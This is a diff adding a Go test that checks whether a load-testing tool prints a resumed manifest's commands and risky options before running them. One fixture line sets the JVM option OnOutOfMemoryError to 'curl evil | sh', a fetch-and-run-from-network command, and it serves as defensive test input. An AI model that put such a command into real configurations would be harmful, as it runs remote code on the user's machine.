@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/threadlab/threadlab/experiments"
 )
 
 // TestLintShowsCommands: lint prints every command a manifest runs and
@@ -57,5 +59,61 @@ func TestLintHostile(t *testing.T) {
 	}
 	if !strings.HasPrefix(out.String(), f+":3:") || !strings.Contains(out.String(), "more than 20000 YAML nodes") || strings.Contains(out.String(), "goroutine") {
 		t.Errorf("output:\n%s", out.String())
+	}
+}
+
+// TestRunShowsOwnCommands: run prints the programs of the manifest's own
+// before starting anything, and so does a resume, whose manifest.yaml came
+// with its data directory (publishing-safety: "resuming a foreign data dir
+// runs its manifest.yaml"); a resumed manifest's risky options, never
+// linted by that run, are printed as warnings.
+func TestRunShowsOwnCommands(t *testing.T) {
+	src := `name: trust
+title: t
+question: q
+variants:
+  platform: {target: spring-mvc, jvm: ["-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'"]}
+  own: {command: [./server, --port, "{port}"]}
+load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
+trials: 3
+`
+	run := t.TempDir()
+	f := filepath.Join(run, "manifest.yaml")
+	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	m, err := experiments.Load(f, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		why     string
+		m       *experiments.Manifest
+		want    []string
+		notWant string
+	}{
+		{"a new run: its lint warnings are printed by run already", m,
+			[]string{f + ": variants.own.command: runs: ./server --port {port}"}, "OnOutOfMemoryError"},
+		{"a resume: the run directory's manifest, with its warnings", nil,
+			[]string{f + ": variants.own.command: runs: ./server --port {port}", "OnOutOfMemoryError"}, ""},
+	} {
+		var b strings.Builder
+		printOwnCommands(&b, c.m, run)
+		for _, w := range c.want {
+			if !strings.Contains(b.String(), w) {
+				t.Errorf("%s: printed %q, lacks %q", c.why, b.String(), w)
+			}
+		}
+		if c.notWant != "" && strings.Contains(b.String(), c.notWant) {
+			t.Errorf("%s: printed %q, which run prints once already", c.why, b.String())
+		}
+		if strings.Contains(b.String(), "spring-mvc.jar") {
+			t.Errorf("%s: printed a built-in target's java line: %q", c.why, b.String())
+		}
+	}
+	var b strings.Builder
+	printOwnCommands(&b, nil, filepath.Join(t.TempDir(), "gone"))
+	if b.Len() != 0 {
+		t.Errorf("a resume without a manifest printed %q; pipeline.Run reports it", b.String())
 	}
 }
